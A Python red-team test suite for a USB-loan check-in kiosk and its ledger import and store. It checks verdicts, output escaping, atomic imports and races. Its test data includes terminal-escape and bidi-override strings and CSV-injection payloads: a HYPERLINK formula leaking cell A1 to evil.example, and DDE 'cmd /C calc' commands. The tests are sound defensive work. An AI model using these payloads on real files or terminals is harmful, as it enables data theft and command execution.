"""Red-team round 2 of the check-in, the ledger import and the store
(issue #9; docs/checkin.md, docs/verdicts.md, docs/ledger.md, docs/store.md).

Each test asserts what the product promises.  A test that failed when it
was written has a one-line comment "# WAS WRONG (fixed): …; RIGHT: …"; the
others are attacks that held, kept so that they keep holding.
"""

import datetime
import json
import os
import sqlite3
import subprocess
import time

from kikan_it import accept_test_cvd_age, kikan_bin
from test_checkin import CheckinTestCase
from test_ledger import LedgerTestCase, FULL, H
from test_checkin_redteam import RedteamCase, descendants


class DeclCase(CheckinTestCase):
    """E2002 holds nothing: the declaration alone decides."""

    def setUp(self):
        super().setUp()
        accept_test_cvd_age(self)

    def answers(self, **over):
        a = self.clean_answers()
        a.update(over)
        return a

    def run_e2002(self, **over):
        doc, r = self.checkin({"employee": "E2002", "answers": self.answers(**over)})
        return doc, r

    def reason(self, obj, code):
        got = [x for x in obj["reasons"] if x["code"] == code]
        self.assertTrue(got, "no %s in %s" % (code, json.dumps(obj, ensure_ascii=False)))
        return got[0]


class Decl(DeclCase):

    def test_no_loans_clean_declaration_cleared(self):
        doc, r = self.run_e2002()
        self.assertEqual((doc["verdict"], r.rc), ("cleared", 0), r.describe())

    def test_byod_deletion_not_sure_holds(self):
        doc, r = self.run_e2002(Q7={"answer": "yes", "device": "home PC", "work": "mail",
                                    "data_deleted": "not_sure"})
        self.assertEqual(self.reason(doc, "DEC-02")["level"], "hold")
        self.assertEqual((doc["verdict"], r.rc), ("hold", 3), r.describe())

    def test_byod_deletion_typo_not_confirmed(self):
        doc, r = self.run_e2002(Q7={"answer": "not_sure", "data_deleted": "yse"})
        self.assertNotEqual(doc["verdict"], "cleared")
        self.assertNotEqual(doc["verdict"], "conditional", r.describe())

    def test_byod_deleted_is_conditional_with_condition(self):
        doc, r = self.run_e2002(Q7={"answer": "yes", "data_deleted": "yes"})
        self.assertEqual((doc["verdict"], r.rc), ("conditional", 3), r.describe())
        self.assert_conditions(doc)

    def assert_conditions(self, doc):
        today = datetime.date.today()
        p3 = self.reason(doc, "PROC-03")
        self.assertEqual(p3["condition"]["until"],
                         (today + datetime.timedelta(days=14)).isoformat(), p3)
        for obj in [doc] + doc["items"]:
            for x in obj["reasons"]:
                if x["level"] == "conditional":
                    self.assertTrue(x.get("condition") and x["condition"]["text"].strip(), x)

    def test_credential_exposure_conditional(self):
        doc, r = self.run_e2002(Q14="not_sure")
        self.assertEqual((doc["verdict"], r.rc), ("conditional", 3), r.describe())
        self.assert_conditions(doc)

    def test_paper_documents_not_sure_holds(self):
        for q15 in ({"answer": "yes", "all_returned": "not_sure"},
                    {"answer": "not_sure"}, "yes",
                    {"answer": "yes", "all_returned": "no"},
                    {"answer": "yes", "all_returned": "Yes, except one folder"}):
            doc, r = self.run_e2002(Q15=q15)
            self.assertEqual(doc["verdict"], "hold", "Q15 %r: %s" % (q15, r.describe()))

    def test_confirmation_not_given(self):
        for q19 in ("no", "not_sure", {"answer": "not_sure"}):
            doc, r = self.run_e2002(Q19=q19)
            self.assertEqual(doc["verdict"], "hold", "Q19 %r: %s" % (q19, r.describe()))
        a = self.clean_answers()
        del a["Q19"]
        doc, r = self.checkin({"employee": "E2002", "answers": a})
        self.assertEqual(doc["verdict"], "hold", r.describe())

    def test_not_applicable_yes_still_counts(self):
        for q in ("Q3", "Q4", "Q5", "Q8", "Q11", "Q12", "Q2"):
            doc, r = self.run_e2002(**{q: "not_sure"})
            self.assertNotEqual(doc["verdict"], "cleared", "%s not_sure: %s" % (q, r.describe()))

    def test_byod_follow_up_opened_for_it(self):
        # WAS WRONG (fixed): Q7 yes with deletion confirmed gives DEC-02 CONDITIONAL "BYOD follow-up to be opened by IT", but nothing is ever opened: no reference, no incident, and `kikan it list` says "Nothing is waiting for IT" (CONDITIONAL sessions are left out of the queue), so no one follows up; RIGHT: KR-22 opens an IT follow-up with a reference (as Q2/Q5/Q6 do) that IT's queue shows.
        doc, r = self.run_e2002(Q7={"answer": "yes", "device": "home PC", "work": "mail",
                                    "data_deleted": "yes"})
        self.assertEqual(doc["verdict"], "conditional", r.describe())
        dec02 = self.reason(doc, "DEC-02")
        self.assertNotIn("to be opened", dec02["text"], dec02)
        q = self.kikan("it", "list", "--json")
        self.assertIn(doc["session"], q.stdout.decode("utf-8"),
                      "the BYOD follow-up must reach IT:\n" + q.describe())

    def test_q17_free_text_is_info_only(self):
        doc, r = self.run_e2002(Q17="I was not sure the VPN rule applied at the hotel")
        self.assertEqual(doc["verdict"], "cleared", r.describe())
        self.assertIn("DEC-09", {c for c, _ in self.codes(doc)})

    def test_q10_classification_variants(self):
        # Q10 with personal data not sure: PROC-07 info; any spelling keeps it.
        for cls in ("Confidential", " confidential", "機密", "secret", ""):
            doc, r = self.run_e2002(Q10={"answer": "yes", "classification": cls,
                                         "personal_data": "not_sure"})
            self.assertIn("PROC-07", {c for c, _ in self.codes(doc)}, "%r %s" % (cls, r.describe()))


HOSTILE = "\x1b]0;pwn\x07\x1b[2J\u202egnp.exe\u2066\x9b31m" + "A" * 5000


class Output(DeclCase):

    def assert_clean(self, raw, what):
        for bad in (b"\x1b", b"\x07", "\u202e".encode(), "\u2066".encode(), b"\xc2\x9b"):
            self.assertNotIn(bad, raw, "%s shows %r raw" % (what, bad))

    def test_hostile_followups_escaped_in_human_output(self):
        a = self.answers(Q3={"answer": "yes", "names": HOSTILE},
                         Q7={"answer": "yes", "device": HOSTILE, "work": HOSTILE,
                             "data_deleted": "no"},
                         Q16={"answer": "yes", "services": HOSTILE},
                         Q17=HOSTILE[:300])
        r = self.kikan("checkin", "--policy", self.policy, "--database", self.db_test6(),
                       "--script", self.script({"employee": "E2002", "answers": a}))
        self.assertEqual(r.rc, 3, r.describe())
        self.assert_clean(r.stdout, "kikan checkin")
        self.assert_clean(r.stderr, "kikan checkin (stderr)")
        q = self.kikan("it", "list")
        self.assert_clean(q.stdout, "kikan it list")
        s = self.kikan("it", "show", "1")
        json.loads(s.stdout.decode("utf-8"))
        self.assert_clean(s.stdout, "kikan it show")

    def test_hostile_serial_presented_escaped(self):
        r = self.kikan("checkin", "--policy", self.policy, "--database", self.db_test6(),
                       "--script", self.script({"employee": "E1001", "answers": self.answers(),
                                                "present": [{"serial": HOSTILE,
                                                             "medium": self.fat("x", False)}]}))
        self.assertIn(r.rc, (2, 3), r.describe())
        self.assert_clean(r.stdout, "kikan checkin")
        self.assert_clean(r.stderr, "kikan checkin (stderr)")
        q = self.kikan("it", "list")
        self.assert_clean(q.stdout + q.stderr, "kikan it list")

    def test_hostile_asset_presented_escaped(self):
        r = self.kikan("checkin", "--policy", self.policy, "--database", self.db_test6(),
                       "--script", self.script({"employee": "E1001", "answers": self.answers(),
                                                "present": [{"asset": HOSTILE,
                                                             "medium": self.fat("x", False)}]}))
        self.assertIn(r.rc, (2, 3), r.describe())
        self.assert_clean(r.stdout + r.stderr, "kikan checkin")


BASE2 = (FULL + "\r\n"
         "E1001,山田 太郎,USB-0007,usb,U7,yes,2026-10-01,,VPN,0781,5581,U7,no\r\n"
         "E1002,佐藤 花子,USB-0008,usb,U8,yes,2026-10-02,,,0781,5581,U8,no\r\n")


class Ledger2(LedgerTestCase):

    def loans(self):
        con = sqlite3.connect(self.db())
        try:
            return con.execute("SELECT asset_id, employee_id, lent_on, returned_on FROM loans "
                               "ORDER BY id").fetchall()
        finally:
            con.close()

    def test_export_neutralises_formulas(self):
        # WAS WRONG (fixed): a name or telework method starting with = + - @ (from the asset tool's CSV) is exported as is, so opening the export in a spreadsheet runs it as a formula (CSV injection); RIGHT: such a cell is written so a spreadsheet shows it as text (e.g. a leading apostrophe that import removes again, keeping export→import a no-op).
        hostile = ('E1001,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",USB-0007,usb,'
                   '"+cmd|\' /C calc\'!A0",yes,2026-10-01,,"@SUM(1+1)*cmd|\' /C calc\'!A0",'
                   ',,,\r\n'
                   'E1002,-2+3,USB-0008,usb,U8,yes,2026-10-02,,,,,,\r\n')
        self.run_kikan("ledger", "import", self.write("h.csv", FULL + "\r\n" + hostile))
        out = self.run_kikan("ledger", "export").stdout.decode("utf-8")
        for line in out.split("\r\n")[1:]:
            for cell in line.split(","):
                c = cell.lstrip('"')
                self.assertFalse(c[:1] in ("=", "+", "-", "@"),
                                 "cell %r of the export starts a formula:\n%s" % (cell, out))
        # And the round trip still changes nothing.
        p = self.write("again.csv", out)
        doc, run = self.json_of("ledger", "import", "--json", p)
        c = doc["counts"]
        self.assertEqual((c["added"], c["changed"], c["removed"], c["employees_renamed"]),
                         (0, 0, 0, 0), run.describe())

    def test_blank_name_refused(self):
        # A name of spaces only would show nobody at the kiosk.
        for name in ('"   "', '"\u3000\u3000"', '"\u00a0"'):
            p = self.write("b.csv", FULL + "\r\nE1001,%s,USB-0007,usb,U7,yes,2026-10-01,,,,,,\r\n"
                           % name)
            run = self.run_kikan("ledger", "import", p, expect=None)
            # WRONG NOW (if it fails): an employee name of only (Unicode) spaces is accepted, so the kiosk greets and the slip names nobody; RIGHT: refused like an empty name (exit 2), nothing imported.
            self.assertEqual(run.rc, 2, "name %r: %s" % (name, run.describe()))
        self.assertFalse(os.path.exists(self.db()) and self.loans())

    def fsize_limited(self, limit, *args):
        import resource
        import signal as sig

        def lim():
            sig.signal(sig.SIGXFSZ, sig.SIG_IGN)
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
        return subprocess.run([kikan_bin()] + list(args), stdin=subprocess.DEVNULL,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              env=self.env(KIKAN_FAKE_NOW="1796299200"), preexec_fn=lim,
                              timeout=120)

    def test_disk_full_during_import_changes_nothing(self):
        self.run_kikan("ledger", "import", self.write("base.csv", BASE2))
        before = self.loans()
        rows = "".join("E2%03d,Name %d,USB-%04d,usb,S%d,yes,2026-10-02,,%s,,,,\r\n"
                       % (i, i, 1000 + i, i, "x" * 900) for i in range(400))
        big = self.write("big.csv", BASE2 + rows)
        r = self.fsize_limited(40000, "ledger", "import", big)
        self.assertEqual(r.returncode, 2, r.stderr.decode("utf-8", "replace"))
        self.assertEqual(self.loans(), before)
        self.assertEqual(self.run_kikan("db", "check", expect=None).rc, 0)
        # The same file imports once there is room again.
        self.run_kikan("ledger", "import", big)
        self.assertEqual(len(self.loans()), 402)

    def test_read_only_store_import_refused_unchanged(self):
        self.run_kikan("ledger", "import", self.write("base.csv", BASE2))
        before = self.loans()
        os.chmod(self.db(), 0o444)
        os.chmod(self.home, 0o555)
        self.addCleanup(os.chmod, self.home, 0o755)
        # root ignores modes: drop to nobody for the attempt.
        p = self.write("next.csv", BASE2.replace("E1002,佐藤 花子,USB-0008", "E1003,X,USB-0008"))
        os.chmod(self.tmp, 0o755)
        os.chmod(p, 0o644)
        r = subprocess.run([kikan_bin(), "ledger", "import", p], stdin=subprocess.DEVNULL,
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                           env=self.env(), preexec_fn=lambda: (os.setgid(65534), os.setuid(65534)),
                           timeout=120)
        self.assertEqual(r.returncode, 2, r.stderr.decode("utf-8", "replace"))
        self.assertEqual(self.loans(), before)

    def test_import_waits_for_a_writer_then_refuses_cleanly(self):
        self.run_kikan("ledger", "import", self.write("base.csv", BASE2))
        before = self.loans()
        con = sqlite3.connect(self.db(), isolation_level=None)
        con.execute("BEGIN IMMEDIATE")
        try:
            p = self.write("next.csv", BASE2.replace("E1002,佐藤 花子,USB-0008", "E1003,X,USB-0008"))
            r = self.kikan("ledger", "import", p, env=self.env(), timeout=120)
        finally:
            con.execute("ROLLBACK")
            con.close()
        self.assertEqual(r.rc, 2, r.describe())
        self.assertIn("wait for it", r.stderr.decode("utf-8"), r.describe())
        self.assertEqual(self.loans(), before)

    def test_newer_schema_refused_by_every_command(self):
        self.run_kikan("ledger", "import", self.write("base.csv", BASE2))
        con = sqlite3.connect(self.db())
        con.execute("PRAGMA user_version = 99")
        con.commit()
        con.close()
        with open(self.db(), "rb") as f:
            before = f.read()
        p = self.write("base.csv", BASE2)
        for args in (("ledger", "import", p), ("ledger", "import", "--dry-run", p),
                     ("ledger", "list"), ("ledger", "export"), ("ledger", "lend", "X", "E1001"),
                     ("ledger", "return", "USB-0007"), ("it", "list"),
                     ("checkin", "--recover")):
            run = self.run_kikan(*args, expect=None)
            self.assertEqual(run.rc, 2, run.describe())
            self.assertIn("newer", run.stderr.decode("utf-8"), run.describe())
        with open(self.db(), "rb") as f:
            self.assertEqual(f.read(), before, "a newer store was written")

    def test_wal_left_by_crash_is_read(self):
        self.run_kikan("ledger", "import", self.write("base.csv", BASE2))
        # A writer that died after its commit leaves the commit in the -wal.
        code = ("import sqlite3, os\n"
                "c = sqlite3.connect(%r, isolation_level=None)\n"
                "c.execute('PRAGMA wal_autocheckpoint=0')\n"
                "c.execute(\"UPDATE employees SET name = 'Crash Survivor' WHERE id = 'E1001'\")\n"
                "os._exit(0)\n" % self.db())
        subprocess.run(["python3", "-c", code], check=True)
        self.assertGreater(os.path.getsize(self.db() + "-wal"), 0)
        dry = self.run_kikan("ledger", "import", "--dry-run", "--json",
                             self.write("base.csv", BASE2))
        doc = json.loads(dry.stdout)
        self.assertEqual(doc["counts"]["employees_renamed"], 1, dry.describe())
        out = self.run_kikan("ledger", "list").stdout.decode("utf-8")
        self.assertIn("Crash Survivor", out)


class ImportDuringCheckin(RedteamCase):
    """`kikan ledger import` while E1001's sticks are being read."""

    def import_csv(self, text):
        p = os.path.join(self.tmp, "ledger-%d.csv" % time.monotonic_ns())
        with open(p, "w", encoding="utf-8") as f:
            f.write(text)
        return self.kikan("ledger", "import", p)

    def checkin_with_import_midway(self, csv_text):
        script = self.script({"employee": "E1001", "answers": self.clean_answers(),
                              "present": [{"asset": "USB-0007", "medium": self.fat("u7", False)},
                                          {"asset": "USB-0008", "medium": self.fat("u8", False)}]})
        proc = subprocess.Popen([kikan_bin(), "checkin", "--json", "--database", self.db_test6(),
                                 "--script", script], stdin=subprocess.DEVNULL,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=self.env())
        self.addCleanup(lambda: proc.poll() is None and proc.kill())
        stopped = []
        end = time.monotonic() + 60
        while not stopped and time.monotonic() < end:
            for w in descendants(proc.pid):
                os.kill(w, 19)
                stopped.append(w)
            time.sleep(0.002)
        self.assertTrue(stopped, "no daemon to hold")
        try:
            x = self.import_csv(csv_text)
            self.assertEqual(x.rc, 0, x.describe())
        finally:
            for w in stopped:
                os.kill(w, 18)
        out, err = proc.communicate(timeout=300)
        return json.loads(out.decode("utf-8")), proc.returncode, err

    def test_loan_moved_to_another_employee_midway_not_cleared(self):
        # WAS WRONG (fixed): the import moves USB-0007's loan to E2002 while E1001's session reads it; end_visit keeps the loan it saw at present time, gives USB-0007 INV-01 "matched to the ledger", the session CLEARED (exit 0), and closes nothing for E2002, whose new loan of the stick now in IT's hands stays open; RIGHT: the verdict is made against the loans in force when it is written: USB-0007 is INV-07 (held by someone other than the registered borrower), the session not CLEARED.
        doc, rc, err = self.checkin_with_import_midway(
            H + "\r\n"
            "E2002,\"Sato, Hanako\",USB-0007,usb,AA00000007,no,2026-10-01\r\n"
            "E1001,山田 太郎,USB-0008,usb,AA00000008,no,2026-10-01\r\n")
        self.assertEqual(self.sql("SELECT employee_id FROM loans WHERE asset_id = 'USB-0007' "
                                  "AND returned_on IS NULL"), [("E2002",)], "the import applied")
        u7 = self.item(doc, "USB-0007")
        self.assertNotIn(("INV-01", "M"), self.codes(u7), json.dumps(u7, ensure_ascii=False))
        self.assertNotEqual(doc["verdict"], "cleared", json.dumps(doc, ensure_ascii=False))
        self.assertNotEqual(rc, 0)

    def test_encryption_required_flipped_midway_is_used(self):
        # WAS WRONG (fixed): the import sets encryption_required=yes on USB-0008 while its plain FAT image is read; the verdict uses the value read at present time and CLEARS the plain stick; RIGHT: the verdict reads the ledger in force when it is written: ENC-02 HOLD.
        doc, rc, err = self.checkin_with_import_midway(
            H + "\r\n"
            "E1001,山田 太郎,USB-0007,usb,AA00000007,no,2026-10-01\r\n"
            "E1001,山田 太郎,USB-0008,usb,AA00000008,yes,2026-10-01\r\n")
        u8 = self.item(doc, "USB-0008")
        self.assertIn("ENC-02", {c for c, _ in self.codes(u8)}, json.dumps(u8, ensure_ascii=False))
        self.assertNotEqual(doc["verdict"], "cleared")

    def test_import_does_not_relend_items_returned_at_kiosk(self):
        # WAS WRONG (fixed): after a check-in took USB-0007 (quarantined, with IT) and USB-0008 back, the next import of the asset tool's file, which still lists both lent to E1001 since 2026-10-01, silently opens new loans ("added"), so E1001's next check-in is NOT RETURNED for sticks IT holds and the kiosk's returns are lost; RIGHT: a row whose loan began on or before the asset's return at the kiosk is that returned loan: not re-opened (refused, or reported as returned at the kiosk).
        doc, r = self.checkin({"employee": "E1001", "answers": self.clean_answers(),
                               "present": [{"asset": "USB-0007", "medium": self.fat("u7", True)},
                                           {"asset": "USB-0008", "medium": self.fat("u8", False)}]})
        self.assertEqual(doc["verdict"], "quarantine", r.describe())
        x = self.import_csv(H + "\r\n"
                            "E1001,山田 太郎,USB-0007,usb,AA00000007,no,2026-10-01\r\n"
                            "E1001,山田 太郎,USB-0008,usb,AA00000008,no,2026-10-01\r\n")
        self.assertIn(x.rc, (0, 2), x.describe())
        reopened = self.sql("SELECT asset_id FROM loans WHERE returned_on IS NULL")
        self.assertEqual(reopened, [], "loans returned at the kiosk re-opened:\n" + x.describe())


class ScriptNames(RedteamCase):

    def test_lost_and_presented_by_serial_records_nothing(self):
        # WAS WRONG (fixed): USB-0007 declared lost and presented by its serial (AA00000007): the script check compares the names as written, so the session, the answers and a "lost" incident with remote wipe requested are committed before "USB-0007 is already part of this check-in" stops the run (exit 2); RIGHT: items are compared by the asset they resolve to and the script is refused before anything is recorded (the first round's fix, by name only).
        r = self.kikan("checkin", "--json", "--database", self.db_test6(), "--script", self.script(
            {"employee": "E1001", "answers": self.clean_answers(),
             "missing": [{"asset": "USB-0007", "declared": "lost", "data_held": "x"}],
             "present": [{"serial": "AA00000007", "medium": self.fat("u7", False)}]}))
        self.assertEqual(r.rc, 2, r.describe())
        self.assertEqual(self.sql("SELECT count(*) FROM incidents"), [(0,)],
                         "no remote wipe may be requested for an item in hand")
        self.assertEqual(self.sql("SELECT count(*) FROM sessions"), [(0,)])

    def test_personal_data_on_plain_stick_not_cleared(self):
        # WAS WRONG (fixed): Q10 yes, level "public" but personal data "yes" (or "not_sure"), both sticks plain: no ENC-02, the session CLEARED (exit 0) with only PROC-07 "loss would require notification"; RIGHT: personal data declared on media needs encryption whatever level was typed (KR-14, fail closed): a plain stick is ENC-02 HOLD.
        for pd in ("yes", "not_sure"):
            a = self.clean_answers()
            a["Q10"] = {"answer": "yes", "classification": "public", "personal_data": pd}
            doc, r = self.checkin({"employee": "E1001", "answers": a,
                                   "present": [{"asset": "USB-0007", "medium": self.fat("u7" + pd, False)},
                                               {"asset": "USB-0008", "medium": self.fat("u8" + pd, False)}]})
            self.assertIn("PROC-07", {c for c, _ in self.codes(doc)}, r.describe())
            self.assertNotEqual(doc["verdict"], "cleared", "personal_data %s: %s" % (pd, r.describe()))
            self.sql("UPDATE loans SET returned_on = NULL, return_session = NULL")
            # IT settles the held sticks before the next round, so that it is
            # not held for this one (PROC-08); deleting the verdict rows
            # instead would leave the audit chain counting rows that are
            # gone, which `kikan checkin` refuses as a broken chain.
            for asset in ("USB-0007", "USB-0008"):
                x = self.kikan("it", "resolve", str(doc["session_id"]), asset, "--by", "it01",
                               "--reason", "next round of the test")
                self.assertEqual(x.rc, 0, x.describe())

    def test_quarantined_item_not_lent_again(self):
        # WAS WRONG (fixed): USB-0007 is QUARANTINE (EICAR) and with IT, no IT action on it, yet `kikan ledger lend USB-0007 E2002` and an import lending it to E2002 both succeed silently, handing the infected stick to someone else; RIGHT: an item whose verdict in force is QUARANTINE or HOLD is not lent again until IT settles it (refused, exit 2, nothing changed).
        doc, r = self.checkin({"employee": "E1001", "answers": self.clean_answers(),
                               "present": [{"asset": "USB-0007", "medium": self.fat("u7", True)},
                                           {"asset": "USB-0008", "medium": self.fat("u8", False)}]})
        self.assertEqual(self.item(doc, "USB-0007")["verdict"], "quarantine", r.describe())
        x = self.kikan("ledger", "lend", "USB-0007", "E2002")
        self.assertEqual(x.rc, 2, x.describe())
        p = os.path.join(self.tmp, "l.csv")
        with open(p, "w", encoding="utf-8") as f:
            f.write(H + "\r\nE2002,\"Sato, Hanako\",USB-0007,usb,AA00000007,no,2026-12-01\r\n")
        x = self.kikan("ledger", "import", p)
        self.assertEqual(x.rc, 2, x.describe())
        self.assertEqual(self.sql("SELECT count(*) FROM loans WHERE asset_id = 'USB-0007' AND "
                                  "returned_on IS NULL"), [(0,)])

    def test_lone_surrogate_follow_up_checked_before_recording(self):
        # WAS WRONG (fixed): a follow-up holding JSON escapes of lone surrogates ("\ud800") passes the script check, then after the session and answers are committed the stored follow-up no longer parses ("The follow-up of Q16 is not a JSON object"), exit 2, a session left incomplete in IT's queue; RIGHT: the whole script is checked before anything is recorded: refused at once (nothing recorded), or accepted and decided with the text escaped.
        body = json.dumps({"employee": "E2002", "answers": self.clean_answers()})
        body = body.replace('"Q16": "no"', '"Q16": {"answer": "yes", "services": "X\\ud800Y\\udfffZ"}')
        self.assertIn("\\ud800", body)
        r = self.kikan("checkin", "--json", "--database", self.db_test6(),
                       "--script", self.raw_script(body))
        sessions = self.sql("SELECT state FROM sessions")
        if r.rc == 2:
            self.assertEqual(sessions, [], "refused after recording:\n" + r.describe())
        else:
            self.assertEqual((r.rc, sessions), (3, [("ended",)]), r.describe())
